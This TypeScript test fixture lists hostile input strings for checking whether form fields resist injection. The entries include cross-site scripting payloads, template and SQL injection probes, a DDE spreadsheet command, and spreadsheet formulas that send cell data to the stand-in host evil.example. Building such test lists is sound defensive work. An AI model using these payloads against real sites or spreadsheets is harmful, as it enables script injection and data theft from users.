/** Runs if a text becomes a script: pages of the tests watch for `window.hit`, for dialogs, and for requests to this host. */
const CALL = 'window.hit=1';
const HOST = 'evil.example';

/** Texts for the place of a name or a note, one line each. At most 32 characters, so that every field accepts them. */
export const SHORT = [
  '<script>hit=1</script>',
  '<img src=x onerror=hit=1>',
  '<svg onload=hit=1>',
  '<svg/onload=alert(1)>',
  '"><b onmouseover=hit=1>x',
  "' autofocus onfocus=hit=1 '",
  '</title><script>hit=1//',
  '</textarea><script>hit=1//',
  '<iframe srcdoc=x>',
  '<base href=//evil.example>',
  'javascript:hit=1',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<b>x</b>',
  '{{constructor.constructor(1)}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack.
  '${alert(1)}#{alert(1)}',
  '<%= 7*7 %> {% now %}',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/p.png)',
  '<https://evil.example>',
  '<!-- --><b>x</b><!--',
  ']]><![CDATA[<b>x</b>',
  "=cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  'null',
  'undefined',
  'NaN',
  '__proto__',
  "'; DROP TABLE grading; --",
  '%3Cscript%3E%00',
  '&lt;b&gt;&amp;amp;',
  'W'.repeat(32),
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏽',
  'Z̸̢͍̈́a̶l̷g̵o̴',
  'a\u200Bb\u200Cc\u2060d\uFEFFe',
  'مرحبا שלום',
  '文字が長い名前のテスト',
] as const;

/** The same for fields that accept more. */
export const LONG = [
  `<img src="https://${HOST}/pixel.png" onerror="${CALL}">`,
  `<a href="javascript:${CALL}" onclick="${CALL}">click</a>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CALL}">`,
  `<style>@import url(https://${HOST}/s.css);*{display:none}</style>`,
  `<link rel=stylesheet href=//${HOST}/s.css><meta http-equiv=refresh content="0;url=//${HOST}">`,
  `<form action=//${HOST}><input name=password autofocus onfocus="${CALL}">`,
  `=HYPERLINK("https://${HOST}/?"&A1,"click")`,
  `=IMPORTXML(CONCAT("https://${HOST}/?",A1),"//a")`,
  `${'incomprehensibilities'.repeat(9)}`,
] as const;

/** Characters that change the direction of text, or end it: single-line fields refuse them. */
export const REFUSED = ['\u202Egpj.exe', 'a\u2066b\u2069c', 'nul\0byte', 'bell\u0007', 'two\nlines', '\uD800 half a pair'] as const;
